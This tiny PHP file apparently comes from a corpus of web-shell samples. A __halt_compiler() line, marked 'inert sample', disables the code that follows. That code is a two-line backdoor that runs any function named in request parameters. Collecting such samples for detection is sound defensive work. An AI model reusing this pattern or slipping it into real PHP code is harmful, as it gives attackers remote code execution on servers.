<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
@extract($_REQUEST);
@$fn($y);
